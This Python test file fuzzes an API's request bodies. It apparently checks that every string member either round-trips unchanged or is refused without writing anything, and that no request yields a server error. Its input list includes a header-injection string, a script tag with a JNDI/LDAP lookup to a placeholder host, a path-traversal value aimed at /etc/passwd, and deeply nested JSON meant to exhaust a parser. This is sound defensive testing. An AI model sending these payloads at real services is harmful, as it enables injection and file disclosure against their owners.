"""Every string of every body, by the OpenAPI document: what is taken comes back as it was sent, the rest is refused and
changes nothing. There is no 5xx.
"""

from typing import Any

import pytest

from tests.api import Response, call
from tests.functions.helpers import assert_problem, failing
from tests.functions.world import World, restore, stored
from tests.proof.security.bodies import MEMBERS, ROUTES, STRINGS, Member, send, valid

TEXTS = [
    "",
    " ",
    "x" * 20_001,
    "a\x00b, long enough",
    "a\r\nSet-Cookie: x=1",
    "\x1b[31mred and long enough",
    "\x7f\x80\x9f \u2028\u2029 and long enough",
    "\u202eright to left, \u200b\u200d\ufeff",
    "e\u0301e\u0301e\u0301 decomposed",
    "\xe9\xe9\xe9 composed and long",
    "ada@ex\u0430mple.com",
    "ada@example.com ",
    "ada@example\u3002com",
    "\U0001f469\u200d\U0001f680" * 8,
    "\ufffe\uffff\U0010ffff and long enough",
    "<script>{id}{0}%s${jndi:ldap://x.example}",
    "../../etc/passwd USER#usr_1#ACCOUNT",
    "NaN",
    "9999-12-31T23:59:59.999-23:59",
]
# Members that are not shown again: what may be read instead is told by a test of its own.
SECRET = {"password", "current_password", "new_password", "refresh_token"}
TIMES = {"occurred_at"}  # shown in UTC


READS = {"GetItem", "Query"}
COUNTS = {"UpdateItem"}  # of requests and wrong guesses; whatever else is written is part of a transaction


def answered(member: Member, world: World, content: Any) -> Response:
    """Send one value in an otherwise valid body. What is refused has written nothing."""
    with failing() as calls:
        response = send(member.route, world, valid(member.route, world) | {member.name: content})
    assert response.status < 500, (member, content, response.text)
    if response.status >= 400:
        assert response.headers["Content-Type"] == "application/problem+json"
        taken = {"TransactWriteItems"} if response.status == 409 else set()  # it was refused by the database
        assert {call["operation"] for call in calls} <= READS | COUNTS | taken, (member, content)
    return response


def assert_shown(member: Member, response: Response, text: str, world: World) -> None:
    """Assert that what was taken is told by the answer, and by who asks again."""
    if member.name in SECRET | TIMES or (member.route == ("POST", "/v1/auth/login")):
        return
    document = response.json()
    assert document[member.name] == text
    path = response.headers.get("Location", member.path.format_map(world._asdict())).partition("/api")[2]
    path = path or member.path.format_map(world._asdict())
    if member.route not in {("POST", "/v1/auth/register"), ("POST", "/v1/status/events")}:
        again = call("GET", path, token=world.tokens["admin" if "support" in path else "user"])
        assert again.json()[member.name] == text
    if member.path == "/v1/status/events":
        assert document[member.name] in [one[member.name] for one in call("GET", member.path).json()["items"]]


@pytest.mark.parametrize("member", STRINGS, ids=str)
def test_a_text_comes_back_as_it_was_sent_or_is_refused(member: Member, world: World) -> None:
    kept, taken = stored(), 0
    for text in TEXTS:
        response = answered(member, world, text)
        if response.status < 300:
            taken += 1
            assert_shown(member, response, text, world)
        if member.name in SECRET:
            restore(kept)
    assert taken or member.name in SECRET or member.path == "/v1/auth/login" or _has_a_form(member)


def _has_a_form(member: Member) -> bool:
    """Tell whether few texts are taken: those of an enumeration, or in a form."""
    branches = member.schema.get("anyOf", [member.schema])
    return any({"enum", "pattern", "format", "$ref"} & one.keys() for one in branches)


VALUES: list[Any] = [None, True, 0, 1e308, 10**400, [], {}, ["x"], {"x": 1}]


@pytest.mark.parametrize("member", MEMBERS, ids=str)
def test_a_value_of_another_type_is_refused(member: Member, world: World) -> None:
    for value in VALUES:
        if value is None and {"type": "null"} in member.schema.get("anyOf", []):
            continue
        response = answered(member, world, value)
        assert response.status == 422, (member, value, response.text)
        assert [error["pointer"] for error in response.json()["errors"]] == [f"#/{member.name}"]


# No JSON at all, by RFC 8259, or more of it than anybody means. %s stands for the member's name.
DOCUMENTS = [
    '{"%s": "\\ud800"}',
    '{"%s": "\\udc00\\ud800"}',
    '{"%s": NaN}',
    '{"%s": -Infinity}',
    '{"%s": ' + "9" * 10_000 + "}",
    '{"%s": ' + "[" * 100_000 + "]" * 100_000 + "}",
    '{"%s": ' + '{"a":' * 40_000 + "1" + "}" * 40_000 + "}",
    '{"%s": "\t"}',
    '{"%s": "\\x41"}',
    "{'%s': 'x'}",
    '{"%s": "x",}',
    '\ufeff{"%s": "x"}',
    '{"%s": "x"} {"%s": "x"}',
    '{"%s": /**/ "x"}',
]


@pytest.mark.parametrize("route", ROUTES, ids=" ".join)
def test_what_is_no_document_is_refused(route: tuple[str, str], world: World) -> None:
    member = next(member for member in MEMBERS if member.route == route)
    for document in DOCUMENTS:
        with failing() as calls:
            response = send(route, world, document.replace("%s", member.name))
        assert_problem(response, "malformed-request")
        assert {call["operation"] for call in calls} <= COUNTS, document[:40]
